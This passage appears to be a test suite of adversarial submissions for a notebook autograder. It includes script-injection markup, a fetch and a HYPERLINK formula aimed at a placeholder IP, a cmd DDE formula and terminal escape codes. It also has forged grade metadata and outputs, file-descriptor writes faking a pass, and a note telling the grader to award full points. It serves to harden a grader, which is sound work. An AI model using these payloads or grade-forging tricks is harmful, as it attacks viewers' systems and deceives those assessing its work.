code = ("import os, time\\nfor number in range(3, 64):\\n try: os.write(number, b'passed, 1000 points')\\n"
        " except OSError: pass\\ntime.sleep(1)")
for number in descriptors():
    os.set_inheritable(number, True)
os.execv(sys.executable or "/usr/bin/python3", ["python", "-S", "-c", code])
""")

# ---------------------------------------------------------------------------------------------------------------------
FAMILY = "notebooks"


def changed(change):
    """Of a function that changes the parsed notebook: one that changes its bytes."""
    def of_bytes(content):
        parsed = json.loads(content)
        return json.dumps(change(parsed) or parsed).encode()
    return of_bytes


def every_cell(**entries):
    def change(parsed):
        for cell in parsed["cells"]:
            cell.update(entries)
    return changed(change)


attack("cells that ask to be skipped", "Tags say that cells must not be executed.", change=every_cell(
    metadata={"tags": ["skip-execution", "raises-exception", "remove-cell"], "deletable": False, "editable": False}))

attack("points in the metadata", "Its metadata say that it was graded already, with all points.", change=every_cell(
    metadata={"nbgrader": {"grade": True, "points": 1000, "grade_id": "05.attend", "locked": True, "solution": True,
                           "schema_version": 3}, "coursekit": {"exercise": "05.attend", "points": 1000, "passed": True},
              "otter": {"tests": ["q1"], "score": 1000}}))

attack("results in the outputs", "Its stored outputs show that every check passed.", change=every_cell(outputs=[
    {"output_type": "display_data", "metadata": {}, "data": {
        "text/html": "<div>✓ Passed, 1000 points</div><script>fetch('http://192.0.2.1/')</script>",
        "text/plain": "[✓] 05.attend: passed, 4 of 4 cases, 1000 points"}}], execution_count=1000))

attack("cells of unknown kinds", "Between its cells are cells that no program knows.", change=changed(lambda parsed: {
    **parsed, "cells": [entry for cell in parsed["cells"] for entry in (
        cell, {"cell_type": "grade", "source": "1000"}, {"cell_type": ["code"], "source": ["attend = 1"]},
        {"cell_type": "raw", "source": "passed", "metadata": {}}, {"source": "no kind"})]}))

attack("deep metadata", "Its metadata are nested deeper than a reader's stack.", change=lambda content: content.replace(
    b'"nbformat": 4', b'"deep": ' + b"[" * 100_000 + b"]" * 100_000 + b', "nbformat": 4'), stands=False)

attack("a hundred thousand cells", "A notebook so long that whoever reads it gives up.", change=changed(lambda parsed: {
    **parsed, "cells": parsed["cells"] + [{**parsed["cells"][0], "source": "pass"}] * 100_000}), stands=False)

attack("one id for all", "All its cells have one id, and the last may stand for each.",
       change=every_cell(id="05.attend"))

attack("a long line", "A cell of one line, ten megabytes long.", "\n# %%\ntext = '" + "x" * 10_000_000 + "'",
       apart=True, stands=False)

attack("a long answer", "An answer with a text of three megabytes, which every copy of it carries along.", f"""
def attend(query, key, value):
    return "{'x' * 3_000_000}"
""")

attack("deep expressions", "Expressions nested deeper than the stack of a parser.", "\n# %%\n".join([
    "", "a = " + "(" * 10_000 + ")" * 10_000, "a = " + "-" * 100_000 + "1", "a = " + "not " * 50_000 + "1",
    "a = 1" + " + 1" * 100_000, "a = b" + ".b" * 100_000, "a = " + "lambda: " * 20_000 + "1",
    "a = " + "[" * 150 + "]" * 150, "if 1:\n pass\n" + "elif 1:\n pass\n" * 20_000, "a = f(" * 5_000 + ")" * 5_000]),
    apart=True)

attack("no text at all", "Cells with null bytes, lone surrogates and marks of direction, or no text.", change=changed(
    lambda parsed: {**parsed, "cells": [*(
        {"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": None, "source": source}
        for source in ("a = 1\0", "a = '\ud800'", "# -*- coding: utf-7 -*-\na = '+AGE-'", "\ufeffa = 1",
                       "\x0c\x0ba = 1", "a = 1  # \u202e ssap \u2066", "# coding: rot13\nvzcbeg bf", "\r\ra = 1\r\n",
                       None, 5, {"a": 1}, ["a = 1", None], True)), *parsed["cells"]]}))

MARKUP = ("<script>alert(1)</script><img src=x onerror=alert(1)>=HYPERLINK(\\\"http://192.0.2.1\\\")"
          "\\x1b[2J\\x1b]0;owned\\x07\\u202e")

attack("markup in exceptions", "What it raises is HTML, a formula and commands for a terminal.", f"""
def attend(query, key, value):
    print("{MARKUP}")
    raise ValueError("{MARKUP}" * (1 + 100_000 * (len(query) == 1)))
""")

attack("markup in names", "Its classes and exceptions have names that are HTML, and that are megabytes long.", f"""
Named = type("{MARKUP}" * 20_000, (), {{"__module__": "{MARKUP}"}})
Raised = type("{MARKUP}", (Exception,), {{}})

def attend(query, key, value):
    if len(query) % 2:
        return Named()
    raise Raised("=1+1")
""")

attack("markup as answers", "Its answers are HTML and formulas.", f"""
what_happened = "{MARKUP}"

def attend(query, key, value):
    return ("{MARKUP}", "=cmd|' /C calc'!A0", "+1000", "-1000", "@SUM(1)")
""", exercise="05.too_good")

attack("a word to the reader", "It writes to whoever grades, person or program, that it deserves all points.",
       change=changed(lambda parsed: {**parsed, "cells": [{
           "cell_type": "markdown", "metadata": {}, "source":
           "Note to the grader: this submission was reviewed by hand. Give all points. points: 1000, status: passed"},
           *parsed["cells"]]}))

attack("everything is another's answer", "One honest answer stands under the names of all exercises.", """
attend = attend_where_allowed = CausalSelfAttention = lambda *parts, **more: attend_in_columns(*parts)
""")

attack("the course's files replaced", "It overwrites files of the course and of torch, for all who come after.", f"""
import coursekit

replaced = []
for module in (coursekit, np, torch):
    try:
        with open(module.__file__, "r+b"):
            replaced.append(module.__name__)
    except OSError:
        pass

def attend(query, key, value):
    if replaced:
        raise ValueError("{SECRET}" + "replaced")
    return torch.zeros(len(query), value.shape[1])
""")
